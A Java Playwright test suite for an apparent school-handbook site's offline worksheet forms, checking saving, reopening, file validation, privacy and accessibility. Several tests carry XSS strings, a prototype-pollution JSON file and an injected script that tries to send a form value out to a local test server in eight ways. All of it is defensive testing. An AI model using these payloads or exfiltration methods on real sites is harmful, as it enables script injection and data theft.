package org.schoolhandbook.browser;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import com.microsoft.playwright.assertions.PlaywrightAssertions;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.ConcurrentLinkedQueue;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.schoolhandbook.model.book.Format;
import org.schoolhandbook.testsite.TestSite;

/** Somebody fills in a form that lies on a disk. */
@InBrowser
class FormTest {

    private static final String SHEET = """
            ---
            title: Talk about feelings
            layout: grid
            slots: 2
            labels: [I am good at, I get upset when]
            alternative: Two boxes.
            ---

            - [ ] We talked about it.
            """;

    @TempDir
    Path folder;

    @Test
    void whatIsSavedCanBeOpenedAgainAndNothingElseIsKept(Library library) throws IOException {
        try (Reader reader = reader(library, Look.LIGHT)) {
            Page page = reader.open("worksheets/feelings.html");
            page.getByLabel("I am good at").fill("jumping </textarea><script>alert(1)</script>");
            page.getByLabel("We talked about it.").check();
            Path saved = folder.resolve("saved.json");
            page.waitForDownload(() -> page.locator("#save").click()).saveAs(saved);
            assertThat(saved).content().contains("\"form\": \"worksheets/feelings\"");

            reader.open("worksheets/feelings.html");
            PlaywrightAssertions.assertThat(page.getByLabel("I am good at")).hasValue("");
            page.locator("#open").setInputFiles(saved);
            PlaywrightAssertions.assertThat(page.locator("[role=status]")).hasText("The saved file is open.");
            PlaywrightAssertions.assertThat(page.getByLabel("I am good at"))
                    .hasValue("jumping </textarea><script>alert(1)</script>");
            PlaywrightAssertions.assertThat(page.getByLabel("We talked about it."))
                    .isChecked();
            assertThat(page.evaluate("document.cookie + localStorage.length + sessionStorage.length"))
                    .isEqualTo("00");
            assertThat(reader.complaints()).isEmpty();
            assertThat(reader.strayRequests()).allMatch(address -> address.startsWith("blob:"));
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "no JSON at all",
                "null",
                "[]",
                "{\"form\": \"plans/another\", \"fields\": {}}",
                "{\"form\": \"worksheets/feelings\"}",
                "{\"form\": \"worksheets/feelings\", \"fields\": \"x\"}"
            })
    void aFileThatWasNotSavedHereChangesNothing(String text, Library library) throws IOException {
        try (Reader reader = reader(library, Look.LIGHT)) {
            Page page = reader.open("worksheets/feelings.html");
            page.getByLabel("I am good at").fill("jumping");
            page.locator("#open").setInputFiles(Files.writeString(folder.resolve("other.json"), text));
            PlaywrightAssertions.assertThat(page.locator("[role=status]")).containsText("This file ");
            PlaywrightAssertions.assertThat(page.getByLabel("I am good at")).hasValue("jumping");
            assertThat(reader.complaints()).isEmpty();
        }
    }

    @Test
    void aHostileFileIsNoMoreThanText(Library library) throws IOException {
        String text =
                "{\"form\": \"worksheets/feelings\", \"fields\": {\"__proto__\": {\"name\": 1}, \"constructor\": \"x\","
                        + " \"i-am-good-at\": \"<img src=x onerror=alert(1)>\", \"i-get-upset-when\": {\"a\": 1},"
                        + " \"we-talked-about-it\": \"yes\", \"unknown\": \"x\"}}";
        try (Reader reader = reader(library, Look.LIGHT)) {
            Page page = reader.open("worksheets/feelings.html");
            page.locator("#open").setInputFiles(Files.writeString(folder.resolve("hostile.json"), text));
            PlaywrightAssertions.assertThat(page.getByLabel("I am good at")).hasValue("<img src=x onerror=alert(1)>");
            PlaywrightAssertions.assertThat(page.getByLabel("I get upset when")).hasValue("");
            PlaywrightAssertions.assertThat(page.getByLabel("We talked about it."))
                    .not()
                    .isChecked();
            assertThat(page.locator("img").count()).isZero();
        }
    }

    @Test
    void whoeverTampersWithThePageStillSendsNothing(Library library) throws IOException {
        var arrived = new ConcurrentLinkedQueue<String>();
        HttpServer server = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        server.createContext("/", exchange -> {
            arrived.add(exchange.getRequestURI().toString());
            exchange.sendResponseHeaders(200, -1);
            exchange.close();
        });
        server.start();
        String to = "http://127.0.0.1:" + server.getAddress().getPort() + "/?";
        try (Reader reader = reader(library, Look.LIGHT)) {
            reader.page().navigate(to + "reached");
            assertThat(arrived).contains("/?reached");

            Page page = reader.open("worksheets/feelings.html");
            page.getByLabel("I am good at").fill("secret");
            Object ways = page.evaluate("""
                    async address => {
                        const to = address + document.querySelector('textarea').value;
                        const ways = [];
                        await fetch(to).then(() => ways.push('fetch'), () => {});
                        await new Promise(done => { const x = new XMLHttpRequest(); x.onload = () => { ways.push('xhr'); done(); };
                            x.onerror = done; try { x.open('POST', to); x.send('x'); } catch (e) { done(); } });
                        try { new WebSocket(to.replace('http', 'ws')); } catch (e) {}
                        navigator.sendBeacon(to, 'x');
                        const image = new Image(); image.src = to; document.body.append(image);
                        const script = document.createElement('script'); script.src = to; document.body.append(script);
                        const frame = document.createElement('iframe'); frame.src = to; document.body.append(frame);
                        const form = document.createElement('form'); form.action = to; form.method = 'post';
                        document.body.append(form); form.submit();
                        await new Promise(done => setTimeout(done, 300));
                        return ways;
                    }
                    """, to);
            assertThat(ways).isEqualTo(List.of());
            assertThat(arrived).noneMatch(address -> address.contains("secret"));
            assertThat(page.url()).startsWith("file:");
        } finally {
            server.stop(0);
        }
    }

    @ParameterizedTest
    @EnumSource(names = {"LIGHT", "DARK", "PHONE"})
    void everybodyCanUseIt(Look look, Library library) throws IOException {
        var axe = new Axe();
        try (Reader reader = reader(library, look)) {
            Page page = reader.open("worksheets/feelings.html");
            axe.bring(page);
            axe.start(page, Axe.Rules.ALL);
            assertThat(axe.verdict(page)).isEmpty();
            assertThat((Boolean) page.evaluate("document.documentElement.scrollWidth <= innerWidth"))
                    .isTrue();
        }
    }

    private Reader reader(Library library, Look look) throws IOException {
        TestSite site = TestSite.in(folder)
                .with("content/index.md", "# Home\n")
                .with("content/worksheets/feelings.md", SHEET.getBytes(StandardCharsets.UTF_8))
                .offline(Format.FORMS);
        site.build();
        String home = site.offlineFolder().resolve("forms").toUri().toString();
        return new Reader(library.browser().newContext(look.options()), home);
    }
}
